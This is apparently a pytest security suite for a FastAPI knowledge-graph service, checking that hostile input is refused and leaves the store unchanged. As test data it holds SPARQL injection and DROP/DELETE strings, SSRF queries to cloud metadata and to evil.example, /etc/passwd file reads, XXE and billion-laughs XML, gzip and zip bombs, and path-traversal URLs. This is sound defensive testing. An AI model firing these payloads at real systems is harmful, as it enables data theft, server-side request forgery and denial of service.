"""Let no one in: hostile input through every route and parameter gets a clear 4xx (or a
harmless empty answer) and changes nothing — SPARQL injection through REST parameters, network
and file access through SPARQL, XML entity attacks and zip bombs in workbooks, path traversal,
oversized requests, deeply nested JSON, writes without a key or with the wrong role — and key
comparison takes the same time whichever key is presented."""

from __future__ import annotations

import gzip
import json
import zipfile
from pathlib import Path
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient

from api import create_app
from kg import apikeys
from kg.service import Service
from kg.settings import Settings

PKG = "pkg-nhic-dose-ct-2026-10"
INJECTIONS = [
    '" } ; DROP ALL ; #',
    "x> } } DELETE WHERE { ?s ?p ?o } #",
    "') } UNION { ?s ?p ?o } #",
    "\\u0022 } CLEAR ALL #",
    "<file:///etc/passwd>",
    "../../../../etc/passwd",
    "%00",
    "x" * 5000,
    "资产'\"<>{}|^`",
]


@pytest.fixture(scope="module")
def env(tmp_path_factory):  # type: ignore[no-untyped-def]
    root = tmp_path_factory.mktemp("sec")
    keys = root / "keys.toml"
    tokens = {role: apikeys.create(keys, f"x-{role}", role) for role in apikeys.ROLES}
    svc = Service(Settings(store="memory:", api_keys=keys, max_body_bytes=200_000))
    svc.initialize(demo=True)
    with TestClient(create_app(service=svc), raise_server_exceptions=False) as client:
        yield client, svc, tokens
    svc.close()


def auth(tokens: dict[str, str], role: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {tokens[role]}"}


def unchanged(svc: Service, before: int) -> None:
    assert svc.store.count() == before


@pytest.mark.parametrize("payload", INJECTIONS, ids=range(len(INJECTIONS)))
def test_rest_parameters_cannot_inject_sparql(env, payload: str) -> None:  # type: ignore[no-untyped-def]
    client, svc, tokens = env
    before = svc.store.count()
    q = quote(payload, safe="")
    reads = [
        f"/api/assets?q={q}",
        f"/api/assets?category={q}",
        f"/api/assets?equipment={q}",
        f"/api/assets/{q}",
        f"/api/assets/{q}/level",
        f"/api/assets/{q}/lineage",
        f"/api/assets/{PKG}/lineage?direction={q}",
        f"/api/export?format={q}",
        f"/api/v1/lineage?nodeId={q}",
        f"/api/v1/lineage?nodeId=dataset:{q}:{q}",
        f"/api/v1/lineage?nodeId=job:{q}:{q}",
        f"/api/v1/column-lineage?nodeId={q}",
        f"/api/v1/column-lineage?nodeId=datasetField:{q}:{q}:{q}&withDownstream=true",
        f"/ui/assets?q={q}",
        f"/ui/assets/{q}",
        f"/ui/transfer?asset={q}&destination={q}",
    ]
    for path in reads:
        r = client.get(path)
        assert r.status_code < 500, (path, r.status_code, r.text[:300])
        if path.startswith("/api/assets?q="):  # matches nothing and widens nothing, or is too long
            assert (r.status_code == 200 and r.json()["total"] == 0) or (r.status_code == 422 and len(payload) > 200)
    writes = [
        ("put", f"/api/assets/{q}/assessment", {"level": "3", "justification": payload}),
        ("put", f"/api/assets/{PKG}/assessment", {"category": payload, "justification": "x"}),
        ("put", f"/api/assets/{PKG}/assessment", {"level": payload, "justification": "x"}),
        ("post", "/api/derivations", {"source": payload, "target": PKG, "justification": "x"}),
        ("post", "/api/transfers/check", {"asset": payload, "destination": payload}),
        ("post", "/api/preview", {"set_levels": {payload: payload}}),
    ]
    for method, path, body in writes:
        r = getattr(client, method)(path, json=body, headers=auth(tokens, "admin"))
        assert 400 <= r.status_code < 500, (path, r.status_code, r.text[:300])
        assert r.headers["content-type"] == "application/problem+json"
    unchanged(svc, before)


@pytest.mark.parametrize(
    "text",
    [
        "SELECT * WHERE { SERVICE <http://169.254.169.254/latest/meta-data/> { ?s ?p ?o } }",
        "SELECT * FROM <http://intranet.example/secret> WHERE { ?s ?p ?o }",
        "SELECT * FROM NAMED <file:///etc/passwd> WHERE { GRAPH ?g { ?s ?p ?o } }",
        "PREFIX f: <file:///etc/> SELECT * FROM f:passwd WHERE { ?s ?p ?o }",
        "SELECT * WHERE { \\u0053ERVICE <http://evil.example/> { ?s ?p ?o } }",
    ],
)
def test_sparql_cannot_reach_the_network_or_files(env, text: str) -> None:  # type: ignore[no-untyped-def]
    client, _, _ = env
    r = client.get("/sparql", params={"query": text})
    assert r.status_code == 400 and r.headers["content-type"] == "application/problem+json", r.text
    body = r.json()
    assert body["detail"] and body["detail_zh"]


@pytest.mark.parametrize(
    "update",
    [
        "LOAD <http://evil.example/data.ttl>",
        "LOAD <file:///etc/passwd> INTO GRAPH <http://x/g>",
        "INSERT { GRAPH <http://x/g> { ?s ?p ?o } } USING <http://evil.example/g> WHERE { ?s ?p ?o }",
        "DELETE { ?s ?p ?o } WHERE { SERVICE <http://evil.example/sparql> { ?s ?p ?o } }",
    ],
)
def test_sparql_updates_cannot_reach_out_either(env, update: str) -> None:  # type: ignore[no-untyped-def]
    client, svc, tokens = env
    before = svc.store.count()
    r = client.post("/sparql", data={"update": update}, headers=auth(tokens, "admin"))
    assert r.status_code == 400, r.text
    unchanged(svc, before)


def test_graph_parameters_must_name_graphs_of_this_store(env) -> None:  # type: ignore[no-untyped-def]
    client, _, _ = env
    q = "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }"
    r = client.get("/sparql", params={"query": q, "default-graph-uri": "http://169.254.169.254/"})
    assert r.status_code == 400
    r = client.get(
        "/sparql",
        params={"query": q, "default-graph-uri": "https://w3id.org/medgrade/graph/inventory"},
        headers={"Accept": "application/sparql-results+json"},
    )
    assert r.status_code == 200 and int(r.json()["results"]["bindings"][0]["n"]["value"]) > 0


def test_writes_need_the_right_role_everywhere(env) -> None:  # type: ignore[no-untyped-def]
    client, svc, tokens = env
    before = svc.store.count()
    calls = [
        ("put", f"/api/assets/{PKG}/assessment", {"json": {"level": "L5", "justification": "x"}}),
        ("post", "/api/derivations", {"json": {"source": PKG, "target": "rpt-drl-ct-2026-10", "justification": "x"}}),
        ("post", "/sparql", {"data": {"update": "CLEAR ALL"}}),
        ("post", "/api/v1/lineage", {"json": {"eventType": "COMPLETE"}}),
        ("post", "/api/admin/reload", {}),
        ("get", "/api/admin/backup", {}),
    ]
    admin_only = {"/api/admin/reload", "/api/admin/backup"}
    for method, path, kwargs in calls:
        r = getattr(client, method)(path, **kwargs)
        assert r.status_code == 401, (path, r.status_code)
        r = getattr(client, method)(path, headers={"Authorization": "Bearer not-a-key"}, **kwargs)
        assert r.status_code == 401, (path, r.status_code)
        r = getattr(client, method)(path, headers={"Authorization": "Basic dXNlcjpwYXNz"}, **kwargs)
        assert r.status_code == 401, (path, r.status_code)
        r = getattr(client, method)(path, headers=auth(tokens, "reader"), **kwargs)
        assert r.status_code == 403, (path, r.status_code)
        if path in admin_only:
            r = getattr(client, method)(path, headers=auth(tokens, "steward"), **kwargs)
            assert r.status_code == 403, (path, r.status_code)
    unchanged(svc, before)


def test_key_comparison_is_constant_time(monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """Every stored hash is compared with hmac.compare_digest, whether or not one matches."""
    import hmac

    keys = [apikeys.ApiKey(f"k{i}", "reader", apikeys.digest(f"token-{i}")) for i in range(5)]
    calls: list[tuple[str, str]] = []
    real = hmac.compare_digest

    def spy(a, b):  # type: ignore[no-untyped-def]
        calls.append((a, b))
        return real(a, b)

    monkeypatch.setattr(apikeys.hmac, "compare_digest", spy)
    assert apikeys.authenticate(keys, "token-0") is keys[0]
    assert len(calls) == 5  # no early exit on the first match
    calls.clear()
    assert apikeys.authenticate(keys, "nope") is None
    assert len(calls) == 5


def test_oversized_requests_are_413(env) -> None:  # type: ignore[no-untyped-def]
    client, svc, tokens = env
    before = svc.store.count()
    with TestClient(create_app(service=Service(Settings(store="memory:", max_body_bytes=20_000)))) as small:
        long = "SELECT * WHERE { ?s ?p ?o } #" + "x" * 30_000
        assert small.get("/sparql", params={"query": long}).status_code == 413
    big = "SELECT * WHERE { ?s ?p ?o } #" + "x" * 300_000
    r = client.post("/sparql", content=big.encode(), headers={"Content-Type": "application/sparql-query"})
    assert r.status_code == 413
    r = client.post("/api/classify", json={"elements": ["x" * 400] * 1000})
    assert r.status_code == 413
    bomb = gzip.compress(b"[" * 10_000_000)  # small on the wire, huge unpacked
    r = client.post(
        "/api/v1/lineage",
        content=bomb,
        headers={**auth(tokens, "steward"), "Content-Encoding": "gzip", "Content-Type": "application/json"},
    )
    assert r.status_code == 413
    unchanged(svc, before)


def test_deeply_nested_json_is_refused(env, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    client, svc, tokens = env
    before = svc.store.count()
    deep = "[" * 50_000 + "]" * 50_000
    r = client.post(
        "/api/v1/lineage", content=deep, headers={**auth(tokens, "steward"), "Content-Type": "application/json"}
    )
    assert r.status_code == 400, r.text
    jsonld = tmp_path / "deep.jsonld"
    jsonld.write_text('{"@context": {}, "x": ' + '{"a": ' * 3000 + "1" + "}" * 3000 + "}", encoding="utf-8")
    report = svc.plan_import([jsonld]) if hasattr(svc, "plan_import") else None
    from kg.errors import ImportProblem

    with pytest.raises(ImportProblem) as err:
        svc.import_files([jsonld])
    assert "deep" in str(err.value.problems).lower() or "nested" in str(err.value.problems).lower()
    del report
    unchanged(svc, before)


def _workbook(tmp_path: Path, name: str, sheet_xml: bytes) -> Path:
    """A real workbook (openpyxl) whose first sheet's XML is replaced by ``sheet_xml``."""
    import openpyxl

    plain = tmp_path / f"plain-{name}"
    wb = openpyxl.Workbook()
    wb.active.append(["资产标识", "资产名称", "数据分类"])
    wb.save(plain)
    out = tmp_path / name
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = sheet_xml if item.filename == "xl/worksheets/sheet1.xml" else src.read(item.filename)
            dst.writestr(item, data)
    return out


SHEET_HEAD = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'


def test_workbook_xml_attacks_are_refused(env, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from kg.errors import ImportProblem

    _, svc, _ = env
    before = svc.store.count()
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT", encoding="utf-8")
    xxe = (
        b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e SYSTEM "file://'
        + str(secret).encode()
        + b'">]>'
        + SHEET_HEAD
        + b'<row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row></sheetData></worksheet>'
    )
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
        + SHEET_HEAD
        + b'<row r="1"><c r="A1" t="inlineStr"><is><t>&d;</t></is></c></row></sheetData></worksheet>'
    )
    for name, xml in (("xxe.xlsx", xxe), ("laughs.xlsx", laughs)):
        with pytest.raises(ImportProblem) as err:
            svc.import_files([_workbook(tmp_path, name, xml)])
        text = str([str(p) for p in err.value.problems])
        assert name in text and "TOP-SECRET" not in text
    unchanged(svc, before)


def test_zip_bombs_and_huge_sheets_are_refused(env, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from kg.errors import ImportProblem
    from kg.importers import tabular

    _, svc, _ = env
    before = svc.store.count()
    monkeypatch.setattr(tabular, "MAX_XLSX_UNCOMPRESSED", 64 * 1024 * 1024)
    bomb_xml = SHEET_HEAD + b"<row r='1'/>" + b" " * (80 * 1024 * 1024) + b"</sheetData></worksheet>"
    wide = SHEET_HEAD + b'<dimension ref="A1:ZZZ1"/></sheetData></worksheet>'
    tall = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<dimension ref="A1:C5000000"/><sheetData></sheetData></worksheet>'
    )
    for name, xml, word in (
        ("bomb.xlsx", bomb_xml, "bytes"),
        ("wide.xlsx", wide, "columns"),
        ("tall.xlsx", tall, "rows"),
    ):
        with pytest.raises(ImportProblem) as err:
            svc.import_files([_workbook(tmp_path, name, xml)])
        assert word in str([str(p) for p in err.value.problems]), (name, err.value.problems)
    unchanged(svc, before)


def test_paths_cannot_escape(env) -> None:  # type: ignore[no-untyped-def]
    client, _, _ = env
    for path in (
        "/ui/static/../../kg/settings.py",
        "/ui/static/%2e%2e/%2e%2e/kg/settings.py",
        "/ui/static/..%2f..%2fkg%2fsettings.py",
        "/ui/static/vendor/../../web.py",
    ):
        r = client.get(path)
        assert r.status_code == 404 or "BaseSettings" not in r.text, path
        assert "MEDGRADE_" not in r.text
    r = client.get("/api/export", params={"format": "../../../etc/passwd"})
    assert r.status_code == 422
    r = client.get("/api/assets/" + quote("../../../../etc/passwd", safe=""))
    assert r.status_code in (400, 404) and "root:" not in r.text


def test_unsupported_rdf_xml_is_refused_before_parsing(env, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from kg.errors import MedgradeError

    _, svc, _ = env
    f = tmp_path / "x.rdf"
    f.write_text('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>')
    with pytest.raises(MedgradeError) as err:
        svc.import_files([f])
    assert "root:" not in str(err.value)


def test_problem_bodies_never_echo_a_server_error(env) -> None:  # type: ignore[no-untyped-def]
    client, _, _ = env
    r = client.post("/api/classify", content=b"{not json", headers={"Content-Type": "application/json"})
    assert r.status_code == 422 and "Traceback" not in r.text
    assert json.loads(r.text)["status"] == 422
